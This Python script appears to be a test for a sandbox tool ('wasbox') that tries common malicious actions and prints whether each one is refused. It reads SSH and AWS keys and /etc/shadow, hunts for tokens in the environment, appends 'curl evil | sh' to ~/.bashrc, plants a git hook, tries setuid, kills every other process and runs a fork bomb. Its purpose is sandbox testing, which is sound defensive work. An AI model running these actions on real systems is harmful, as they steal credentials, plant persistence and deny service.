#!/usr/bin/env python3
"""Tries what malicious scripts try, one line per attempt. Run it with: wasbox run nasty.py

Outside wasbox it only looks and changes nothing.
"""
import ctypes
import errno
import os
import signal
import socket

INSIDE = os.environ.get("WASBOX") == "1"
libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, action, changes=False):
    if changes and not INSIDE:
        print(f"{what:<44} skipped: not inside wasbox")
        return
    try:
        result = action()
    except OSError as error:
        result = f"refused: {error.strerror}"
    print(f"{what:<44} {result}", flush=True)


def read(path):
    with open(os.path.expanduser(path)) as file:
        return f"DONE, {len(file.read())} bytes"


def listing(path):
    names = os.listdir(os.path.expanduser(path))
    return f"DONE: {' '.join(names)}" if names else "nothing there"


def secrets():
    marks = ("TOKEN", "SECRET", "PASSWORD", "API_KEY", "SSH_AUTH_SOCK")
    found = [name for name in os.environ if any(mark in name for mark in marks)]
    return f"DONE: {' '.join(found)}" if found else "nothing there"


def phone_home():
    # RFC 5737 reserves this address for documentation, so no server listens there.
    with socket.create_connection(("192.0.2.1", 443), timeout=2):
        return "DONE"


def append(path, text):
    with open(os.path.expanduser(path), "a") as file:
        file.write(text)
    return "done, in a copy that you can review"


def into_project(path):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    append(path, "#!/bin/sh\necho gotcha\n")
    os.chmod(path, 0o755)
    return "done, in a copy that you can review"


def call(name, *arguments):
    if getattr(libc, name)(*arguments) == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "DONE"


def kill_others():
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    killed = 0
    for pid in others:
        try:
            os.kill(pid, signal.SIGKILL)
            killed += 1
        except OSError:
            pass
    return f"saw {len(others)} other process(es), could kill {killed}"


def fork_bomb():
    children = []
    try:
        while len(children) < 2000:
            child = os.fork()
            if child == 0:
                signal.pause()
                os._exit(0)
            children.append(child)
        return f"DONE, {len(children)} processes"
    except OSError as error:
        return f"stopped after {len(children)}: {error.strerror}"
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)


PTRACE_ATTACH = 16
attempt("read ~/.ssh/id_ed25519", lambda: read("~/.ssh/id_ed25519"))
attempt("read ~/.aws/credentials", lambda: read("~/.aws/credentials"))
attempt("list /home", lambda: listing("/home"))
attempt("list ~", lambda: listing("~"))
attempt("find tokens in the environment", secrets)
attempt("read /etc/shadow", lambda: read("/etc/shadow"))
attempt("phone home", phone_home, changes=True)
attempt("append to ~/.bashrc", lambda: append("~/.bashrc", "curl evil | sh\n"), changes=True)
attempt("write to /usr/bin", lambda: append("/usr/bin/gotcha", "x"), changes=True)
attempt("plant a git hook", lambda: into_project(".git/hooks/post-checkout"), changes=True)
attempt("change the project", lambda: into_project("gotcha.sh"), changes=True)
attempt("ptrace the parent", lambda: call("ptrace", PTRACE_ATTACH, os.getppid(), 0, 0), changes=True)
attempt("mount a file system", lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None), changes=True)
attempt("make a user namespace", lambda: call("unshare", 0x10000000), changes=True)
attempt("become root", lambda: call("setuid", 0) if os.getuid() else "already uid 0, here only", changes=True)
attempt("kill every process", kill_others, changes=True)
attempt("fork without end", fork_bomb, changes=True)
